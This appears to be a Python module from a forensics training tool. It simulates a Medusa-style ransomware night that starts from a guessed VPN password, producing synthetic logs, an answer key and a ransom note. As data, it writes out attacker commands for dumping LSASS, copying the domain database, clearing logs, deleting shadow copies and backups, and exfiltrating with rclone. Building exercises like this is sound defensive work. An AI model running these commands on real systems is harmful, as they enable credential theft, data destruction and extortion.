"""Ransomware through a guessed VPN password.

The family's extension, note name and onion address are facts from pymispgalaxies (cluster
"ransomware", value "medusa"); the text of the note is ours.
"""

from __future__ import annotations

from datetime import date, datetime

from hikeshi.demo import logs
from hikeshi.demo.actions import CMD, EXPLORER, SERVICES, Actions
from hikeshi.demo.evidence_set import SECURITY, Record
from hikeshi.demo.ordinary import HOME_USERS, upload, vpn_session
from hikeshi.demo.truth import Story
from hikeshi.demo.world import FORTIGATE, MINUTE, SECOND, World
from hikeshi.model.text import Text

NAME = "vpn-ransomware"
TITLE = Text("VPN から始まるランサムウェア", "Ransomware through the VPN")
DESCRIPTION = Text(
    "VPN のパスワードが推測され、一晩でサーバー 5 台と端末 3 台が暗号化されました。",
    "A VPN password was guessed; within one night five servers and three clients were encrypted.")
FIRST, END = date(2026, 10, 3), datetime(2026, 10, 9, 11, 0)  # noqa: DTZ001 (local time of the company)

FAMILY, EXTENSION, NOTE = "medusa", ".MEDUSA", "!!!READ_ME_MEDUSA!!!.txt"
ONION = "medusakxxtp3uo7vusntvubnytaph4d3amxivbggl3hnhpk2nmus34yd.onion"
_SYSTEM32 = "C:\\Windows\\System32\\"
_TOOLS = "C:\\PerfLogs\\"
_PSEXEC, _LOCKER = _TOOLS + "PsExec64.exe", "C:\\Windows\\Temp\\gaze.exe"
_ARCHIVE = _TOOLS + "fs1.7z"
_NIGHT = 6  # Friday, 9 October

_DOCUMENTS = ("営業/2026年度見積一覧.xlsx", "経理/9月度仕訳.csv", "総務/就業規則_改訂案.docx", "設計/図面_KD-2041.pdf",
              "製造/工程表_10月.xlsx", "品質保証/検査成績書_0912.pdf")


def happen(world: World) -> Story:
    """Let the attack happen in `world`; what an analyst should find."""
    night = _Night(world)
    night.enter()
    night.steal_credentials()
    night.spread()
    night.steal_data()
    night.destroy_traces()
    night.encrypt()
    night.leave_flaws()
    return night.story


class _Night:
    def __init__(self, world: World) -> None:
        self.world, self.do = world, Actions(world, NAME)
        self.story = Story(NAME, FAMILY)
        self.rdp_logon = 0
        cast = world.cast
        self.delay = cast("delay", 0, -8, 17, 36) * MINUTE
        self.attacker = cast("attacker", "203.0.113.77", "203.0.113.18", "198.51.100.12")
        self.store = cast("store", "198.51.100.44", "203.0.113.130")
        self.tunnel = cast("tunnel", "10.212.134.61", "10.212.134.94")
        self.victim = cast("victim", *HOME_USERS)
        self.admin, self.other_admin = cast("admin", ("adm-sato", "adm-kobayashi"), ("adm-kobayashi", "adm-sato"))
        self.files, self.more_files = cast("servers", ("FS01", "FS02"), ("FS02", "FS01"))
        first, second = cast("clients", ("PC-A014", "PC-A022"), ("PC-B020", "PC-A004"), ("PC-A011", "PC-B005"))
        self.cleared_client = first
        self.silent_client = cast("silent client", "PC-B007", "PC-A017", "PC-B018")
        self.targets = (self.files, "APP01", "BK01", first, second, self.silent_client)

    def at(self, clock: str) -> int:
        return self.world.at(_NIGHT, clock) + self.delay

    def enter(self) -> None:
        do, story = self.do, self.story
        failures: list[Record] = []
        for number in range(19):
            time = self.at("00:12") + number * 63 * SECOND + do.rng.randrange(20 * SECOND)
            user = ("m.kato", "admin", "s.suzuki")[number // 2] if number < 6 else self.victim
            failures.append(do.evidence.line(FORTIGATE, time, logs.fortigate_vpn_failure(
                time, source=self.attacker, user=user)))
        inside = self.at("00:33:12")
        session = vpn_session(do, self.victim, self.attacker, self.tunnel, inside, minutes=265)
        story.entry("vpn_credential", inside, [*session, *failures], source=self.attacker, account=self.victim,
                    host="RDS01")
        story.aliases[self.tunnel] = [self.attacker]

        time = self.at("00:41:05")
        self.rdp_logon, records = do.rdp(self.tunnel, "RDS01", self.victim, time, minutes=250,
                                         client_name="DESKTOP-7KQ2")
        records += do.traffic(self.tunnel, self.world.host("RDS01").address, 3389, time, duration=14_900,
                              sent=21_000_000, received=160_000_000, interfaces=("ssl.root", "lan"), service="RDP",
                              user=self.victim)
        story.spread(self.tunnel, "RDS01", self.victim, "rdp", time, records)
        for clock, image, command in (
                ("00:46:10", "whoami.exe", "whoami /all"), ("00:46:41", "net.exe", 'net group "Domain Admins" /domain'),
                ("00:47:20", "nltest.exe", "nltest /domain_trusts /all_trusts"),
                ("00:48:02", "net.exe", "net view /all /domain:KAEDE")):
            do.process("RDS01", self.victim, self.rdp_logon, self.at(clock), _SYSTEM32 + image, command, CMD)

    def steal_credentials(self) -> None:
        do = self.do
        # What makes the theft worth while: an administrator worked here that afternoon.
        do.rdp(self.world.host("JUMP01").address, "RDS01", self.admin, self.world.at(_NIGHT - 1, "14:20:31"),
               minutes=35, used_by=self.admin, client_name="JUMP01")
        helper = _TOOLS + "sp.exe"
        do.file_created("RDS01", self.victim, self.at("00:52:30"), "C:\\Windows\\explorer.exe", helper)
        do.process("RDS01", self.victim, self.rdp_logon, self.at("00:54:02"), helper, "sp.exe -i -c cmd.exe", CMD)
        dump = "C:\\Windows\\Temp\\d0.dmp"
        time = self.at("00:55:17")
        records = do.process("RDS01", "SYSTEM", 0x3E7, time, _SYSTEM32 + "rundll32.exe",
                             f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 {dump} full", CMD, helper)
        records += do.process_access("RDS01", "SYSTEM", time + SECOND, _SYSTEM32 + "rundll32.exe",
                                     _SYSTEM32 + "lsass.exe", "0x1fffff")
        records += do.file_created("RDS01", "SYSTEM", time + 2 * SECOND, _SYSTEM32 + "rundll32.exe", dump)
        self.story.host("RDS01", time, records)

    def spread(self) -> None:
        do, story = self.do, self.story
        for clock, target, command in (
                ("01:20:33", self.files, "cmd.exe /c dir D:\\Shares /s > C:\\PerfLogs\\t.txt"),
                ("01:32:08", "DC01", "cmd.exe /c ntdsutil \"ac i ntds\" ifm \"create full C:\\PerfLogs\\n\" q q"),
                ("03:05:41", "BK01", "cmd.exe /c wbadmin delete catalog -quiet")):
            _, records = do.psexec("RDS01", target, self.admin, self.at(clock), tool=_PSEXEC, options="-accepteula -s",
                                   remote_command=command, used_by=self.victim, remote_image=CMD)
            story.spread("RDS01", target, self.admin, "psexec_service", self.at(clock), records)
        time = self.at("01:45:26")
        logon_id, records = do.rdp(self.world.host("RDS01").address, "APP01", self.admin, time, minutes=18,
                                   used_by=self.victim, client_name="RDS01")
        story.spread("RDS01", "APP01", self.admin, "rdp", time, records)
        tool = "C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe"
        time = self.at("01:51:02")
        records = do.process("APP01", self.admin, logon_id, time, f"C:\\Users\\{self.admin}\\Downloads\\AnyDesk.exe",
                             'AnyDesk.exe --install "C:\\Program Files (x86)\\AnyDesk" --start-with-win --silent',
                             EXPLORER)
        records += do.service_installed("APP01", self.admin, logon_id, time + 4 * SECOND, "AnyDesk Service",
                                        f'"{tool}" --service', start="auto start")
        records += do.service_state("APP01", "AnyDesk", "AnyDesk Service", time + 5 * SECOND)
        records += do.process("APP01", "SYSTEM", 0x3E7, time + 5 * SECOND, tool, f'"{tool}" --service', SERVICES)
        story.claim("persistence", ["APP01", "remote_tool", "AnyDesk Service"], time, records)
        story.aliases["AnyDesk Service"] = ["AnyDesk"]

    def steal_data(self) -> None:
        do, story, server = self.do, self.story, self.files
        time = self.at("02:05:50")
        records = do.process(server, "SYSTEM", 0x3E7, time, _TOOLS + "7z.exe",
                             f"7z.exe a -mx1 -v2g {_ARCHIVE} D:\\Shares\\経理 D:\\Shares\\設計", CMD)
        records += do.file_created(server, "SYSTEM", time + 3 * SECOND, _TOOLS + "7z.exe", _ARCHIVE)
        story.claim("staging", [server, _ARCHIVE], time, records)
        story.aliases[_ARCHIVE] = [_ARCHIVE + ".001", _TOOLS.rstrip("\\"), _TOOLS]
        records = do.process(server, "SYSTEM", 0x3E7, self.at("02:24:40"), _TOOLS + "rclone.exe",
                             f"rclone.exe --config r.conf copy {_TOOLS} x:kaede --include *.7z* --transfers 4", CMD)
        records += do.connection(server, "SYSTEM", self.at("02:24:41"), _TOOLS + "rclone.exe", "10.20.1.250", 3128,
                                 "proxy.kaede.example")
        for clock, duration, sent in (("02:24:41", 1310, 7_900_000_000), ("02:46:40", 1105, 6_300_000_000)):
            records += upload(do, self.world.host(server).address, self.store, self.store, self.at(clock),
                              duration=duration, sent=sent)
        story.claim("exfiltration", {"source": server, "destination": self.store}, self.at("02:24:41"), records)
        for address in (self.attacker, self.store):
            story.may("c2", address)

    def destroy_traces(self) -> None:
        do, story = self.do, self.story
        do.process("DC01", "SYSTEM", 0x3E7, self.at("03:20:58"), _SYSTEM32 + "wevtutil.exe", "wevtutil cl Security",
                   CMD)
        records = do.log_cleared("DC01", self.admin, self.world.next_logon_id(), self.at("03:21:00"))
        story.claim("log_gaps", ["DC01", "cleared"], self.at("03:21:00"), records)

    def encrypt(self) -> None:
        """From the domain controller to everything: PsExec, and once a remote task."""
        do, story, domain_controller = self.do, self.story, "DC01"
        for number, target in enumerate(self.targets):
            time = self.at("03:30:12") + number * 74 * SECOND
            _, records = do.psexec(domain_controller, target, self.admin, time, tool=_PSEXEC,
                                   options="-accepteula -d -s -c", remote_command=_LOCKER + " -n -i C:\\ D:\\",
                                   used_by="SYSTEM", remote_image=_LOCKER)
            if target == self.silent_client:  # hands in no event logs: only the sender's side can tell
                story.may("spread", [domain_controller, target, self.admin, "psexec_service"])
                story.host(target, time, records)
            else:
                story.spread(domain_controller, target, self.admin, "psexec_service", time, records)
            self._lock(target, time + 20 * SECOND)
        time = self.at("03:40:30")
        _, records = do.remote_task(domain_controller, self.more_files, self.admin, time, used_by="SYSTEM",
                                    name="SystemMaint", command=_LOCKER, arguments="-n -i C:\\ D:\\")
        story.spread(domain_controller, self.more_files, self.admin, "scheduled_task", time, records)
        story.may("persistence", [self.more_files, "scheduled_task", "\\SystemMaint"])
        self._lock(self.more_files, time + 40 * SECOND)
        time = self.at("03:44:05")
        do.process("RDS01", "SYSTEM", 0x3E7, time, _LOCKER, _LOCKER + " -n -i C:\\", CMD)
        self._lock("RDS01", time + 10 * SECOND)

        do.process(self.cleared_client, "SYSTEM", 0x3E7, self.at("03:57:58"), _SYSTEM32 + "wevtutil.exe",
                   "wevtutil cl Security", CMD)
        records = do.log_cleared(self.cleared_client, self.admin, self.world.next_logon_id(), self.at("03:58:00"))
        story.claim("log_gaps", [self.cleared_client, "cleared"], self.at("03:58:00"), records)

    def _lock(self, host: str, time: int) -> None:
        """Shadow copies go, then the files: samples of them and the note are in the evidence."""
        do, rng = self.do, self.do.rng
        records = do.process(host, "SYSTEM", 0x3E7, time, _SYSTEM32 + "vssadmin.exe",
                             "vssadmin.exe delete shadows /all /quiet", _LOCKER)
        records += do.process(host, "SYSTEM", 0x3E7, time + SECOND, _SYSTEM32 + "bcdedit.exe",
                              "bcdedit.exe /set {default} recoveryenabled No", _LOCKER)
        folder = "C/Users/Public/Documents" if host.startswith(("PC", "RDS")) else "D/Shares"
        for name in rng.sample(_DOCUMENTS, 4):
            content = rng.randbytes(rng.randrange(2_000, 9_000))
            do.evidence.files[f"{host}/files/{folder}/{name}{EXTENSION}"] = content
        do.evidence.files[f"{host}/files/{folder}/{NOTE}"] = _note().encode()
        records += do.file_created(host, "SYSTEM", time + 30 * SECOND, _LOCKER,
                                   folder.replace("C/", "C:/").replace("D/", "D:/").replace("/", "\\") + "\\" + NOTE)
        self.story.claim("encrypted_hosts", host, time, [])
        self.story.host(host, time, records or [])

    def leave_flaws(self) -> None:
        evidence, story = self.do.evidence, self.story
        evidence.clock_runs_fast("APP01", 270)
        story.clock_offsets.append({"host": "APP01", "seconds": -270})
        evidence.cut_tail("MAIL01", SECURITY)
        story.damaged.append(f"MAIL01/{SECURITY}.evtx")
        for host in ("DC01", self.cleared_client, "MAIL01"):
            story.may("log_gaps", [host, "silence"])
        evidence.files["notes.txt"] = _remarks().encode()
        story.decoy_hosts += ["JUMP01", "DC02", "MAIL01", "SQL01", "WEB01", "LNX01", "PC-A001", "PC-A024"]
        story.decoy_accounts += ["svc_backup", self.other_admin, "s.suzuki", "s.sato"]


def _note() -> str:
    return "\r\n".join((
        "NOTICE TO THE COMPANY",
        "",
        "Your servers and workstations were encrypted. Every locked file now ends in " + EXTENSION + ".",
        "Before that we copied accounting and design data out of your network.",
        "If nobody writes to us within 10 days the copies will be published and the price goes up.",
        "Decryption without our key is not possible. Payment is taken in Bitcoin only.",
        "",
        "How to reach us: install Tor Browser and open",
        f"http://{ONION}/",
        "Your id for the chat: 5c1e-kaede-0410",
        ""))


def _remarks() -> str:
    return "\n".join((
        "証拠の収集メモ / Notes on collection",
        "会社の時刻帯 / Company time zone: Asia/Tokyo (JST, UTC+9)",
        "取得日時 / Taken at: 2026-10-09 11:00 JST",
        "ファイアウォール / Firewall: FortiGate FW-KAEDE-01 (10.20.0.1), SSL-VPN 10.212.134.0/24",
        "プロキシ / Proxy: squid 10.20.1.250",
        "APP01 の時計は実際の時刻より 4 分 30 秒進んでいました。",
        "The clock of APP01 runs 4 minutes 30 seconds fast.",
        "MAIL01 の Security.evtx はコピーが途中で終わっています。",
        "The copy of Security.evtx of MAIL01 ends in the middle.",
        "端末のイベントログは 8 台分です。残りの端末は未取得です。",
        "Event logs of eight clients; the other clients were not collected.",
        ""))


